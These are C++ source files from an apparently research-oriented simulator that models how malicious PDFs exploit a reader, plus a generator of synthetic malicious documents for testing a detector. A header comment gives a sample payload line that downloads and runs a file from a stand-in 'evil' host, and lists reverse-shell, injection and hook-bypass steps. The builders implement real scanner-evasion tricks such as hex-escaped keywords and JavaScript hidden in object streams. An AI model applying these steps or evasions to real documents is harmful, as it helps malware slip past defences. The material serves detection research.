                ref.document.resolved_find(names->as_dict(), "JavaScript");
            jstree && jstree->is_dict()) {
          if (const pdf::Object* list =
                  ref.document.resolved_find(jstree->as_dict(), "Names");
              list && list->is_array()) {
            const pdf::Array& arr = list->as_array();
            for (std::size_t i = 1; i < arr.size(); i += 2) {
              run_action_chain(ref, arr[i], result);
            }
          }
        }
      }
    }
    // Page-level /AA actions.
    for (const auto& [num, obj] : ref.document.objects()) {
      if (!obj.is_dict()) continue;
      const pdf::Object* type = obj.as_dict().find("Type");
      if (!type || !type->is_name() || type->as_name().value != "Page") continue;
      if (const pdf::Object* aa = ref.document.resolved_find(obj.as_dict(), "AA");
          aa && aa->is_dict()) {
        for (const auto& e : aa->as_dict().entries()) {
          run_action_chain(ref, e.value, result);
        }
      }
    }

    drain_pending_scripts(ref, result);
    render_phase(ref, result);
    drain_pending_scripts(ref, result);
  } catch (const ReaderCrash&) {
    result.crashed = true;
    process().crash();
    if (on_crash) on_crash();
  }

  result.js_reported_bytes = ref.api->js_allocated_reported();

  // Open queued embedded PDFs (depth-capped; hostile files can nest).
  if (embed_depth_ < 3) {
    std::vector<std::pair<std::string, support::Bytes>> queued;
    queued.swap(pending_embedded_);
    ++embed_depth_;
    for (auto& [embedded_name, data] : queued) {
      open_document(data, embedded_name);
    }
    --embed_depth_;
  } else {
    pending_embedded_.clear();
  }
  return result;
}

void ReaderSim::run_action_chain(OpenDoc& doc, const pdf::Object& action_obj,
                                 OpenResult& result) {
  // Follow /Next chains with a visit cap (cycles exist in hostile files).
  const pdf::Object* cur = &doc.document.resolve(action_obj);
  for (int hops = 0; cur && hops < 64; ++hops) {
    if (!cur->is_dict() && !cur->is_stream()) return;
    const pdf::Dict& d = cur->dict_or_stream_dict();
    const pdf::Object* s = doc.document.resolved_find(d, "S");
    const bool is_js = s && s->is_name() && s->as_name().value == "JavaScript";
    if (is_js || d.contains("JS")) {
      if (const pdf::Object* code = d.find("JS")) {
        run_script(doc, string_or_stream_text(doc.document, *code), result);
      }
    }
    const pdf::Object* next = d.find("Next");
    if (!next) return;
    const pdf::Object& resolved = doc.document.resolve(*next);
    if (resolved.is_array()) {
      // /Next can be an array of actions.
      for (const pdf::Object& a : resolved.as_array()) {
        run_action_chain(doc, a, result);
      }
      return;
    }
    cur = &resolved;
  }
}

void ReaderSim::run_script(OpenDoc& doc, const std::string& source,
                           OpenResult& result) {
  if (source.empty() || process().crashed()) return;
  if (stream_state_) {
    // Progressive rendering: each script runs at most once across chunks.
    const std::uint64_t hash = support::fnv1a64(source);
    if (!stream_state_->executed_script_hashes.insert(hash).second) return;
  }
  doc.active_result = &result;
  doc.in_js_context = true;
  result.js_ran = true;
  ++result.scripts_executed;
  try {
    doc.interp->run_source(source);
  } catch (const js::JsException&) {
    // Script-level error: Acrobat logs to its console and moves on.
  } catch (const support::Error&) {
    // Engine-level fault (syntax error, step limit): same outcome.
  }
  doc.in_js_context = false;
  doc.active_result = nullptr;
  if (process().crashed()) throw ReaderCrash{};
}

void ReaderSim::drain_pending_scripts(OpenDoc& doc, OpenResult& result) {
  // Added/delayed scripts may themselves add more; cap the generations.
  for (int round = 0; round < 16 && !doc.pending_scripts.empty(); ++round) {
    std::vector<std::string> batch;
    batch.swap(doc.pending_scripts);
    for (const std::string& src : batch) run_script(doc, src, result);
  }
}

void ReaderSim::render_phase(OpenDoc& doc, OpenResult& result) {
  if (!render_enabled_) return;
  // Embedded non-JS exploit content: streams tagged with a /CVE entry
  // (synthetic stand-in for a malformed Flash/font/image payload). The
  // detector never inspects this tag — only the reader model does.
  for (const auto& [num, obj] : doc.document.objects()) {
    if (!obj.is_stream()) continue;
    const pdf::Object* cve = obj.as_stream().dict.find("CVE");
    if (!cve) continue;
    std::string id;
    if (cve->is_name()) {
      id = cve->as_name().value;
    } else if (cve->is_string()) {
      id = support::to_string(cve->as_string().data);
    }
    if (id.rfind("CVE-", 0) != 0) continue;
    const VulnSpec* vuln = find_vulnerability(id);
    if (!vuln || vuln->context != ExploitContext::kRender) continue;
    doc.in_js_context = false;
    handle_exploit_attempt(doc, id, result);
    if (process().crashed()) throw ReaderCrash{};
  }
}

void ReaderSim::handle_exploit_attempt(OpenDoc& doc, const std::string& cve,
                                       OpenResult& result) {
  result.attempted_cves.push_back(cve);
  if (doc.exploited) return;  // one successful hijack per document

  const VulnSpec* vuln = find_vulnerability(cve);
  if (!vuln || !version_affected(*vuln, major_version())) {
    // Patched / not present in this reader version: the call is harmless
    // (the paper's 58 "did nothing" samples).
    return;
  }

  // Control-flow hijack: needs enough sprayed heap to land on a NOP sled.
  const std::uint64_t sprayed = doc.api->js_allocated_reported();
  if (sprayed < vuln->required_spray_bytes) {
    process().crash();  // jump into unmapped / unlucky memory
    return;
  }

  // Find shellcode in the sprayed payloads.
  const sys::Process& proc = process();
  for (auto it = proc.sprayed_payloads().rbegin();
       it != proc.sprayed_payloads().rend(); ++it) {
    if (auto program = extract_shellcode(*it)) {
      doc.exploited = true;
      result.fired_cves.push_back(cve);
      execute_shellcode(kernel_, pid_, *program);
      return;
    }
  }
  // Sled without working shellcode: crash.
  process().crash();
}

OpenResult ReaderSim::open_document_partial(support::BytesView file,
                                            const std::string& name,
                                            StreamState& state,
                                            bool final_chunk) {
  // Release the previous partial view of the same document first.
  close_document(name);
  stream_state_ = &state;
  render_enabled_ = final_chunk;
  OpenResult result;
  try {
    result = open_document(file, name);
  } catch (...) {
    stream_state_ = nullptr;
    render_enabled_ = true;
    throw;
  }
  stream_state_ = nullptr;
  render_enabled_ = true;
  return result;
}

void ReaderSim::close_document(const std::string& name) {
  auto it = docs_.find(name);
  if (it == docs_.end()) return;
  process().free(it->second->render_memory);
  render_cache_bytes_ -= std::min(render_cache_bytes_, it->second->render_memory);
  docs_.erase(it);
}

void ReaderSim::close_all() {
  std::vector<std::string> names;
  for (const auto& [name, doc] : docs_) names.push_back(name);
  for (const auto& name : names) close_document(name);
}

void ReaderSim::maybe_compact_cache() {
  if (config_.cache_optimization_threshold == 0 || cache_compacted_) return;
  if (render_cache_bytes_ <= config_.cache_optimization_threshold) return;
  // One-time cache compaction (the Fig. 8 "drop at the 15th copy" effect):
  // cached render data for every open document is shrunk to 30%.
  cache_compacted_ = true;
  std::uint64_t freed = 0;
  for (auto& [name, doc] : docs_) {
    const std::uint64_t drop = doc->render_memory * 7 / 10;
    doc->render_memory -= drop;
    freed += drop;
  }
  process().free(freed);
  render_cache_bytes_ -= std::min(render_cache_bytes_, freed);
}

}  // namespace pdfshield::reader
