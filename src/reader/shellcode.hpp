// Shellcode action programs. Real shellcode is machine code; in this
// simulation a sprayed payload embeds a small textual action program that
// the (simulated) hijacked control flow executes through the kernel's API
// surface — the exact calls the paper's runtime detector hooks.
//
// Wire format, embedded anywhere in a sprayed string:
//   SC{DROP:http://evil/x.exe>c:/x.exe;EXEC:c:/x.exe;HUNT:40;...}
//
// Ops:
//   DROP:<url>><path>     URLDownloadToFile(url, path)
//   WRITE:<path>><data>   NtCreateFile(path, data)       (embedded malware)
//   EXEC:<path>           NtCreateProcess(path)
//   INJECT:<pid>><dll>    CreateRemoteThread(pid, dll); pid "*" = any other
//   HUNT:<n>              n egg-hunt probes (NtAccessCheckAndAuditAlarm,
//                         IsBadReadPtr, NtDisplayString, NtAddAtom round-robin)
//   CONNECT:<host>><port> connect(host, port)            (reverse shell)
//   LISTEN:<port>         listen(port)                   (bind shell)
//
// An op prefixed with '!' (e.g. "!EXEC:c:/x.exe") resolves the routine
// directly (GetProcAddress / raw syscall) instead of going through the
// import table — the IAT-hook bypass the paper discusses in §III-E.
#pragma once

#include <optional>
#include <string>
#include <vector>

#include "sys/kernel.hpp"

namespace pdfshield::reader {

struct ShellcodeOp {
  std::string op;
  std::vector<std::string> args;
};

struct ShellcodeProgram {
  std::vector<ShellcodeOp> ops;
};

/// Renders a program to its wire format (used by the corpus generator).
std::string encode_shellcode(const ShellcodeProgram& program);

/// Scans a memory blob for "SC{...}" and parses the first occurrence.
std::optional<ShellcodeProgram> extract_shellcode(const std::string& memory);

/// Executes the program from process `pid` via the kernel's (hookable) API
/// surface. Blocked calls are skipped, matching how a vetoed import simply
/// fails for the caller. Returns the number of API calls issued.
std::size_t execute_shellcode(sys::Kernel& kernel, int pid,
                              const ShellcodeProgram& program);

}  // namespace pdfshield::reader
