// In-browser PDF viewer simulator — the paper's §VI future work, built
// out. Two properties distinguish the browser environment from the
// stand-alone reader and drive the design here:
//
//  1. *Progressive rendering*: in-browser viewers start rendering before
//     the document finishes downloading. Documents are therefore fed in
//     chunks; Javascript whose action objects are complete runs as soon as
//     its chunk lands, not at end-of-download. Instrumentation still works
//     because the monitoring wrapper travels inside the same object as the
//     script it guards.
//
//  2. *Noisy host process*: the browser process spawns helper processes
//     and talks to the network constantly. The detector copes via its
//     whitelist (helpers) and because out-of-JS network traffic was never
//     a feature — context attribution does the rest.
//
// Tabs share one browser process (memory, hooks), matching the
// multi-tab/single-process worry in §VI.
#pragma once

#include <map>
#include <memory>
#include <string>

#include "reader/reader_sim.hpp"

namespace pdfshield::reader {

struct BrowserConfig {
  std::string browser_image = "browser.exe";
  std::uint64_t base_memory = 180ull * 1024 * 1024;  ///< browsers are heavy
  /// Per-tab web-page render memory.
  std::uint64_t page_memory = 25ull * 1024 * 1024;
  ReaderConfig viewer;  ///< plugin viewer configuration
};

class BrowserSim {
 public:
  BrowserSim(sys::Kernel& kernel, BrowserConfig config = {});

  int pid() const { return pid_; }
  sys::Process& process();

  /// Opens an ordinary web page in a tab: allocates render memory, makes
  /// the browser's characteristic background noise (network fetches and
  /// an occasional helper process) — none of which may trip the detector.
  void open_web_page(const std::string& url);

  /// Opens a PDF in a tab, fully downloaded (plugin viewer path).
  OpenResult open_pdf(support::BytesView file, const std::string& name);

  /// Progressive path: feeds the document in `chunks` pieces, rendering
  /// after each. Scripts run as soon as their objects are complete; each
  /// runs at most once. Returns the merged result.
  OpenResult open_pdf_streaming(support::BytesView file,
                                const std::string& name, int chunks);

  /// The plugin viewer (attach the detector to this).
  ReaderSim& viewer() { return *viewer_; }

  std::size_t tab_count() const { return tabs_; }

 private:
  sys::Kernel& kernel_;
  BrowserConfig config_;
  int pid_;
  std::unique_ptr<ReaderSim> viewer_;
  std::size_t tabs_ = 0;
  int helper_counter_ = 0;
};

}  // namespace pdfshield::reader
