#include "corpus/builders.hpp"

#include "pdf/filters.hpp"
#include "pdf/lexer.hpp"
#include "pdf/writer.hpp"

namespace pdfshield::corpus {

using pdf::Array;
using pdf::Dict;
using pdf::Object;
using pdf::Ref;
using pdf::Stream;

namespace {

const char* kWords[] = {"system",   "analysis", "report",   "quarter",
                        "security", "network",  "document", "figure",
                        "table",    "method",   "result",   "process",
                        "section",  "appendix", "summary",  "review",
                        "policy",   "client",   "project",  "update"};

}  // namespace

std::string lorem_text(support::Rng& rng, std::size_t bytes) {
  std::string out;
  out.reserve(bytes + 16);
  while (out.size() < bytes) {
    out += kWords[rng.below(sizeof(kWords) / sizeof(kWords[0]))];
    out.push_back(rng.chance(0.1) ? '.' : ' ');
  }
  return out;
}

DocumentBuilder::DocumentBuilder(support::Rng& rng) : rng_(rng) {
  doc_.header().found = true;
  doc_.header().offset = 0;
  doc_.header().version = "1.7";
  doc_.header().version_valid = true;
  ensure_catalog();
}

void DocumentBuilder::ensure_catalog() {
  if (catalog_ref_.num != 0) return;
  Dict pages;
  pages.set("Type", Object::name("Pages"));
  pages.set("Kids", Object(Array{}));
  pages.set("Count", Object(0));
  pages_ref_ = doc_.add_object(Object(pages));

  Dict catalog;
  catalog.set("Type", Object::name("Catalog"));
  catalog.set("Pages", Object(pages_ref_));
  catalog_ref_ = doc_.add_object(Object(catalog));
  doc_.trailer().set("Root", Object(catalog_ref_));
}

DocumentBuilder& DocumentBuilder::add_pages(int count, std::size_t text_bytes) {
  for (int i = 0; i < count; ++i) {
    const std::string text = "BT /F1 11 Tf 72 720 Td (" +
                             lorem_text(rng_, text_bytes) + ") Tj ET";
    pdf::EncodedStream enc =
        pdf::encode_stream(support::to_bytes(text), {"FlateDecode"});
    Stream content;
    content.dict.set("Filter", enc.filter);
    content.dict.set("Length", Object(static_cast<std::int64_t>(enc.data.size())));
    content.data = enc.data;
    const Ref content_ref = doc_.add_object(Object(content));

    Dict page;
    page.set("Type", Object::name("Page"));
    page.set("Parent", Object(pages_ref_));
    page.set("Contents", Object(content_ref));
    page.set("MediaBox", Object(Array{Object(0), Object(0), Object(612), Object(792)}));
    const Ref page_ref = doc_.add_object(Object(page));
    page_refs_.push_back(page_ref);
  }
  Dict& pages = doc_.object(pages_ref_)->as_dict();
  Array kids;
  for (const Ref& r : page_refs_) kids.push_back(Object(r));
  pages.set("Kids", Object(kids));
  pages.set("Count", Object(static_cast<std::int64_t>(page_refs_.size())));
  return *this;
}

DocumentBuilder& DocumentBuilder::add_blank_page() {
  Dict page;
  page.set("Type", Object::name("Page"));
  page.set("Parent", Object(pages_ref_));
  const Ref page_ref = doc_.add_object(Object(page));
  page_refs_.push_back(page_ref);
  Dict& pages = doc_.object(pages_ref_)->as_dict();
  Array kids;
  for (const Ref& r : page_refs_) kids.push_back(Object(r));
  pages.set("Kids", Object(kids));
  pages.set("Count", Object(static_cast<std::int64_t>(page_refs_.size())));
  return *this;
}

DocumentBuilder& DocumentBuilder::add_padding_objects(int count) {
  for (int i = 0; i < count; ++i) {
    switch (rng_.below(3)) {
      case 0: {
        Dict font;
        font.set("Type", Object::name("Font"));
        font.set("Subtype", Object::name("Type1"));
        font.set("BaseFont", Object::name("Helvetica"));
        doc_.add_object(Object(font));
        break;
      }
      case 1: {
        Stream xobj;
        xobj.dict.set("Type", Object::name("XObject"));
        xobj.dict.set("Subtype", Object::name("Image"));
        xobj.data = rng_.bytes(64 + rng_.below(256));
        xobj.dict.set("Length", Object(static_cast<std::int64_t>(xobj.data.size())));
        doc_.add_object(Object(xobj));
        break;
      }
      default: {
        Dict meta;
        meta.set("Type", Object::name("Metadata"));
        meta.set("Subtype", Object::name("XML"));
        meta.set("Tag", Object::string(rng_.hex_string(12)));
        doc_.add_object(Object(meta));
      }
    }
  }
  return *this;
}

DocumentBuilder& DocumentBuilder::set_info(const std::string& key,
                                           const std::string& value) {
  const Object* info_obj = doc_.trailer().find("Info");
  Ref info_ref;
  if (info_obj && info_obj->is_ref()) {
    info_ref = info_obj->as_ref();
  } else {
    info_ref = doc_.add_object(Object(Dict{}));
    doc_.trailer().set("Info", Object(info_ref));
  }
  doc_.object(info_ref)->as_dict().set(key, Object::string(value));
  return *this;
}

pdf::Ref DocumentBuilder::js_action(const std::string& script, bool in_stream) {
  Object js_value = Object::string(script);
  if (in_stream) {
    Stream s;
    s.data = support::to_bytes(script);
    s.dict.set("Length", Object(static_cast<std::int64_t>(s.data.size())));
    const Ref sref = doc_.add_object(Object(s));
    js_stream_refs_.push_back(sref);
    js_value = Object(sref);
  }
  Dict action;
  action.set("Type", Object::name("Action"));
  action.set("S", Object::name("JavaScript"));
  action.set("JS", js_value);
  return doc_.add_object(Object(action));
}

DocumentBuilder& DocumentBuilder::set_open_action_js(const std::string& script,
                                                     bool in_stream) {
  open_action_ref_ = js_action(script, in_stream);
  doc_.object(catalog_ref_)->as_dict().set("OpenAction", Object(open_action_ref_));
  return *this;
}

pdf::Dict& DocumentBuilder::names_dict() {
  if (names_dict_ref_.num == 0) {
    names_dict_ref_ = doc_.add_object(Object(Dict{}));
    doc_.object(catalog_ref_)->as_dict().set("Names", Object(names_dict_ref_));
  }
  return doc_.object(names_dict_ref_)->as_dict();
}

DocumentBuilder& DocumentBuilder::add_named_js(const std::string& name,
                                               const std::string& script,
                                               bool in_stream) {
  const Ref action = js_action(script, in_stream);
  open_action_ref_ = open_action_ref_.num ? open_action_ref_ : action;
  if (names_tree_ref_.num == 0) {
    Dict jstree;
    jstree.set("Names", Object(Array{}));
    names_tree_ref_ = doc_.add_object(Object(jstree));
    names_dict().set("JavaScript", Object(names_tree_ref_));
  }
  Dict& jstree = doc_.object(names_tree_ref_)->as_dict();
  Array list = jstree.at("Names").as_array();
  list.push_back(Object::string(name));
  list.push_back(Object(action));
  jstree.set("Names", Object(list));
  return *this;
}

DocumentBuilder& DocumentBuilder::add_embedded_file(
    const std::string& name, const support::Bytes& contents) {
  Stream ef;
  ef.dict.set("Type", Object::name("EmbeddedFile"));
  ef.data = contents;
  ef.dict.set("Length", Object(static_cast<std::int64_t>(ef.data.size())));
  const Ref ef_ref = doc_.add_object(Object(ef));

  Dict filespec;
  filespec.set("Type", Object::name("Filespec"));
  filespec.set("F", Object::string(name));
  Dict ef_entry;
  ef_entry.set("F", Object(ef_ref));
  filespec.set("EF", Object(ef_entry));
  const Ref fs_ref = doc_.add_object(Object(filespec));

  if (embedded_tree_ref_.num == 0) {
    Dict tree;
    tree.set("Names", Object(Array{}));
    embedded_tree_ref_ = doc_.add_object(Object(tree));
    names_dict().set("EmbeddedFiles", Object(embedded_tree_ref_));
  }
  Dict& tree = doc_.object(embedded_tree_ref_)->as_dict();
  Array list = tree.at("Names").as_array();
  list.push_back(Object::string(name));
  list.push_back(Object(fs_ref));
  tree.set("Names", Object(list));
  return *this;
}

DocumentBuilder& DocumentBuilder::chain_next_js(const std::string& script) {
  const Ref next = js_action(script, /*in_stream=*/false);
  // Walk the /Next chain from the open action to its tail.
  Ref cur = open_action_ref_;
  while (true) {
    Dict& d = doc_.object(cur)->dict_or_stream_dict();
    const Object* n = d.find("Next");
    if (!n || !n->is_ref()) {
      d.set("Next", Object(next));
      return *this;
    }
    cur = n->as_ref();
  }
}

DocumentBuilder& DocumentBuilder::set_page_aa_js(const std::string& script,
                                                 bool in_stream) {
  if (page_refs_.empty()) add_blank_page();
  const Ref action = js_action(script, in_stream);
  open_action_ref_ = action;  // obfuscation transforms target this action
  Dict aa;
  aa.set("O", Object(action));  // page-open trigger
  doc_.object(page_refs_[0])->as_dict().set("AA", Object(aa));
  return *this;
}

DocumentBuilder& DocumentBuilder::add_form_field(const std::string& name,
                                                 const std::string& value) {
  Dict field;
  field.set("FT", Object::name("Tx"));
  field.set("T", Object::string(name));
  field.set("V", Object::string(value));
  const Ref field_ref = doc_.add_object(Object(field));
  form_field_refs_.push_back(field_ref);

  Dict& catalog = doc_.object(catalog_ref_)->as_dict();
  Dict form;
  if (const Object* existing = catalog.find("AcroForm");
      existing && existing->is_dict()) {
    form = existing->as_dict();
  }
  Array fields;
  if (const Object* f = form.find("Fields"); f && f->is_array()) {
    fields = f->as_array();
  }
  fields.push_back(Object(field_ref));
  form.set("Fields", Object(fields));
  catalog.set("AcroForm", Object(form));
  return *this;
}

DocumentBuilder& DocumentBuilder::add_render_exploit(const std::string& cve,
                                                     const std::string& subtype) {
  Stream payload;
  payload.dict.set("Type", Object::name("EmbeddedFile"));
  payload.dict.set("Subtype", Object::name(subtype));
  payload.dict.set("CVE", Object::string(cve));
  payload.data = rng_.bytes(128 + rng_.below(512));
  payload.dict.set("Length", Object(static_cast<std::int64_t>(payload.data.size())));
  const Ref payload_ref = doc_.add_object(Object(payload));
  // Reference it from the first page (or the catalog) so it renders.
  if (!page_refs_.empty()) {
    doc_.object(page_refs_[0])->as_dict().set("Annots",
                                              Object(Array{Object(payload_ref)}));
  } else {
    doc_.object(catalog_ref_)->as_dict().set("Media", Object(payload_ref));
  }
  return *this;
}

DocumentBuilder& DocumentBuilder::hexify_js_keywords() {
  // /JavaScript -> /JavaScr#69pt, /JS -> /J#53 (values and keys).
  for (auto& [num, obj] : doc_.objects()) {
    if (!obj.is_dict() && !obj.is_stream()) continue;
    Dict& d = obj.dict_or_stream_dict();
    for (auto& e : d.entries()) {
      if (e.key == "JS") e.raw_key = "/J#53";
      if (e.value.is_name() && e.value.as_name().value == "JavaScript") {
        e.value = Object(pdf::Name("JavaScript", "/JavaScr#69pt"));
      }
    }
  }
  return *this;
}

DocumentBuilder& DocumentBuilder::add_empty_objects_on_chain(int count) {
  if (open_action_ref_.num == 0) return *this;
  Array extras;
  for (int i = 0; i < count; ++i) {
    const Ref empty_ref = doc_.add_object(Object(Dict{}));
    extras.push_back(Object(empty_ref));
  }
  doc_.object(open_action_ref_)->dict_or_stream_dict().set("Aux", Object(extras));
  return *this;
}

DocumentBuilder& DocumentBuilder::set_js_encoding_levels(int levels) {
  static const std::vector<std::string> kFilters = {
      "FlateDecode", "ASCIIHexDecode", "RunLengthDecode", "ASCII85Decode"};
  for (const Ref& sref : js_stream_refs_) {
    Stream& s = doc_.object(sref)->as_stream();
    // Current data is plain (builders store JS unencoded initially).
    std::vector<std::string> chain;
    for (int i = 0; i < levels; ++i) chain.push_back(kFilters[static_cast<std::size_t>(i) % kFilters.size()]);
    pdf::EncodedStream enc = pdf::encode_stream(s.data, chain);
    s.data = enc.data;
    if (enc.filter.is_null()) {
      s.dict.erase("Filter");
    } else {
      s.dict.set("Filter", enc.filter);
    }
    s.dict.set("Length", Object(static_cast<std::int64_t>(s.data.size())));
  }
  return *this;
}

DocumentBuilder& DocumentBuilder::pack_js_into_object_stream() {
  if (open_action_ref_.num == 0) return *this;
  Object* action = doc_.object(open_action_ref_);
  if (!action || !action->is_dict()) return *this;

  // Serialize the action into the ObjStm body.
  const std::string body = pdf::write_object(*action);
  std::string payload = std::to_string(open_action_ref_.num) + " 0\n";
  const std::size_t first = payload.size();
  payload += body;

  pdf::EncodedStream enc =
      pdf::encode_stream(support::to_bytes(payload), {"FlateDecode"});
  Stream objstm;
  objstm.dict.set("Type", Object::name("ObjStm"));
  objstm.dict.set("N", Object(1));
  objstm.dict.set("First", Object(static_cast<std::int64_t>(first)));
  objstm.dict.set("Filter", enc.filter);
  objstm.data = enc.data;
  objstm.dict.set("Length", Object(static_cast<std::int64_t>(objstm.data.size())));
  doc_.add_object(Object(objstm));

  // Remove the plain copy: the only definition now lives inside the
  // compressed container.
  doc_.objects().erase(open_action_ref_.num);
  return *this;
}

support::Bytes DocumentBuilder::build(bool header_obfuscation) {
  pdf::WriteOptions opts;
  if (header_obfuscation) {
    if (rng_.chance(0.5)) {
      opts.junk_prefix_bytes = 32 + rng_.below(700);
    } else {
      opts.force_version = "9." + std::to_string(rng_.below(10));  // invalid
    }
  }
  return pdf::write_document(doc_, opts);
}

}  // namespace pdfshield::corpus
