// Low-level document builders shared by the corpus generator: page trees,
// content streams, Javascript actions, AcroForm fields, and the
// obfuscation transforms whose population marginals Table VI reports
// (header obfuscation, #xx keyword hex-escapes, empty objects on the JS
// chain, multi-level stream encodings).
#pragma once

#include <string>
#include <vector>

#include "pdf/document.hpp"
#include "pdf/writer.hpp"
#include "support/rng.hpp"

namespace pdfshield::corpus {

/// Incrementally builds a realistic document. All randomness comes from
/// the provided Rng, so corpora are reproducible.
class DocumentBuilder {
 public:
  explicit DocumentBuilder(support::Rng& rng);

  /// Adds `count` pages each holding a Flate-compressed text content
  /// stream of roughly `text_bytes` of prose.
  DocumentBuilder& add_pages(int count, std::size_t text_bytes = 800);

  /// Adds a blank page (the classic malicious one-pager).
  DocumentBuilder& add_blank_page();

  /// Adds non-JS padding objects (metadata, font descriptors, xobjects) to
  /// dilute the Javascript-chain ratio (benign documents are object-rich).
  DocumentBuilder& add_padding_objects(int count);

  /// Sets /Info metadata (Title etc). Payload smuggling via the title is a
  /// documented extraction-evasion trick, so the value is caller-chosen.
  DocumentBuilder& set_info(const std::string& key, const std::string& value);

  /// Attaches Javascript to the document's /OpenAction.
  DocumentBuilder& set_open_action_js(const std::string& script,
                                      bool in_stream = false);

  /// Appends a script to the catalog /Names /JavaScript tree.
  DocumentBuilder& add_named_js(const std::string& name,
                                const std::string& script,
                                bool in_stream = false);

  /// Chains a script after the current /OpenAction via /Next.
  DocumentBuilder& chain_next_js(const std::string& script);

  /// Attaches Javascript to the first page's /AA (page-open action) —
  /// an alternative trigger surface malicious documents use.
  DocumentBuilder& set_page_aa_js(const std::string& script,
                                  bool in_stream = false);

  /// Adds an AcroForm text field (name/value), optionally with JS actions.
  DocumentBuilder& add_form_field(const std::string& name,
                                  const std::string& value);

  /// Adds an embedded non-JS exploit carrier (Flash/font/image stream
  /// tagged with the CVE the reader model understands).
  DocumentBuilder& add_render_exploit(const std::string& cve,
                                      const std::string& subtype);

  /// Attaches a file under /Names /EmbeddedFiles (PDF attachments; used by
  /// the embedded-PDF attack family and §VI handling).
  DocumentBuilder& add_embedded_file(const std::string& name,
                                     const support::Bytes& contents);

  /// --- obfuscation transforms (Table VI) --------------------------------

  /// Re-spells /JavaScript and /JS keys with #xx hex escapes.
  DocumentBuilder& hexify_js_keywords();

  /// Hangs `count` empty objects off the Javascript chain.
  DocumentBuilder& add_empty_objects_on_chain(int count);

  /// Re-encodes the Javascript stream with an n-deep filter chain
  /// (requires set_open_action_js(..., /*in_stream=*/true)).
  DocumentBuilder& set_js_encoding_levels(int levels);

  /// Hides the Javascript action dictionary inside a compressed object
  /// stream (/Type /ObjStm) — a PDF-1.5 evasion against scanners that do
  /// not open object streams. Requires a string-valued /JS (object
  /// streams cannot contain stream objects).
  DocumentBuilder& pack_js_into_object_stream();

  /// Serialization. `header_obfuscation` pads junk before %PDF and/or
  /// writes an invalid version.
  support::Bytes build(bool header_obfuscation = false);

  pdf::Document& document() { return doc_; }

 private:
  void ensure_catalog();
  pdf::Ref js_action(const std::string& script, bool in_stream);

  support::Rng& rng_;
  pdf::Document doc_;
  pdf::Ref catalog_ref_{0, 0};
  pdf::Ref pages_ref_{0, 0};
  std::vector<pdf::Ref> page_refs_;
  pdf::Ref open_action_ref_{0, 0};
  pdf::Ref names_tree_ref_{0, 0};
  pdf::Ref names_dict_ref_{0, 0};
  pdf::Ref embedded_tree_ref_{0, 0};

  /// The catalog /Names dictionary object (created on demand).
  pdf::Dict& names_dict();
  std::vector<pdf::Ref> js_stream_refs_;  ///< streams holding JS code
  std::vector<pdf::Ref> form_field_refs_;
};

/// Random prose of roughly `bytes` characters (compresses like real text).
std::string lorem_text(support::Rng& rng, std::size_t bytes);

}  // namespace pdfshield::corpus
