// Synthetic corpus generator reproducing the paper's evaluation dataset
// (Table V) distributionally: benign documents (a fraction carrying
// Javascript, like the 994 / 18623 in the paper), and malicious documents
// whose static-feature marginals match Table VI, whose chain-ratio
// distribution matches Fig. 6, and whose runtime-behaviour mix yields the
// Table VIII structure (noise samples that do nothing on Acrobat 8/9,
// crash samples, render-context exploits, droppers, egg-hunts, staged and
// delayed attacks).
#pragma once

#include <string>
#include <vector>

#include "support/bytes.hpp"
#include "support/rng.hpp"

namespace pdfshield::corpus {

/// One generated document plus its ground truth.
struct Sample {
  std::string name;
  support::Bytes data;
  bool malicious = false;
  std::string family;       ///< generator family tag
  std::string cve;          ///< exploited CVE (malicious only)
  bool has_javascript = false;
  bool expect_noise = false;  ///< version-gated: does nothing on 8/9
  bool expect_crash = false;  ///< hijack crashes the reader
  bool expect_detectable = true;  ///< ground-truth expectation for Table VIII
};

/// Knobs, defaulted to the paper's measured proportions.
struct CorpusConfig {
  std::uint64_t seed = 0xC0FFEE;

  // Table V scale (generate_* take explicit counts; these are defaults).
  double benign_js_fraction = 994.0 / 18623.0;

  // Table VI marginals over malicious samples.
  double frac_header_obf = 578.0 / 7370.0;
  double frac_hex_code = 543.0 / 7370.0;
  double frac_empty_objects = 13.0 / 7370.0;
  double frac_encoding_none = 233.0 / 7370.0;   ///< 0 levels
  double frac_encoding_multi2 = 40.0 / 7370.0;  ///< 2 levels
  double frac_encoding_multi3 = 31.0 / 7370.0;  ///< 3 levels

  // Fig. 6: ~5% of malicious documents keep their ratio below 0.2.
  double frac_low_ratio = 0.05;
  // ~64/7370 sparse one-object-chain samples with ratio exactly 1.
  double frac_ratio_one = 64.0 / 7370.0;

  // Table VIII behaviour mix.
  double frac_noise = 58.0 / 1000.0;        ///< CVE-2009-1492 / CVE-2013-0640
  double frac_crash_plain = 25.0 / 1000.0;  ///< crash, no static features (FN)
  double frac_crash_obfuscated = 10.0 / 1000.0;  ///< crash but still caught
  double frac_render_context = 0.18;        ///< Flash/CoolType/U3D/TIFF/JBIG2
  double frac_staged = 0.05;
  double frac_delayed = 0.05;
  double frac_egghunt = 0.08;
  double frac_inject = 0.06;
  double frac_shell = 0.08;

  // Owner-password-encrypted malicious documents (anti-analysis; readable
  // with an empty user password). The front-end strips the protection.
  double frac_owner_encrypted = 0.02;

  // Spray *target length* in physical bytes. The doubling loop allocates
  // ~4x the target cumulatively, and reported memory is 64x physical, so
  // 0.4-6.5 MB targets land on Fig. 7's 103-1700 MB reported range.
  std::size_t spray_min_bytes = 850u << 10;
  std::size_t spray_max_bytes = 6600u << 10;
};

class CorpusGenerator {
 public:
  explicit CorpusGenerator(CorpusConfig config = CorpusConfig());

  /// Generates `count` benign documents (JS-bearing per config fraction).
  std::vector<Sample> generate_benign(std::size_t count);

  /// Benign documents that all carry Javascript (the 994-population used
  /// for feature validation and FP measurement).
  std::vector<Sample> generate_benign_with_js(std::size_t count);

  /// Generates `count` malicious documents with the configured mix.
  std::vector<Sample> generate_malicious(std::size_t count);

  /// A cooperating pair: the first drops an executable, the second runs it
  /// (§III-E cross-document attack).
  std::pair<Sample, Sample> generate_cross_document_pair();

  /// A benign-looking host whose Javascript launches a malicious PDF
  /// attachment (embedded-document attack, §VI).
  Sample generate_embedded_attack_sample(std::size_t index);

  /// Structural-mimicry variant of a malicious sample (the [8]-style
  /// attack on static detectors): identical runtime behaviour, but the
  /// document is padded and cleaned so static features look benign.
  Sample make_mimicry_variant(std::size_t index);

  const CorpusConfig& config() const { return config_; }

 private:
  Sample benign_sample(std::size_t index, bool force_js);
  Sample malicious_sample(std::size_t index);

  std::string spray_script(const std::string& shellcode, std::size_t bytes,
                           const std::string& obfuscation_style);

  CorpusConfig config_;
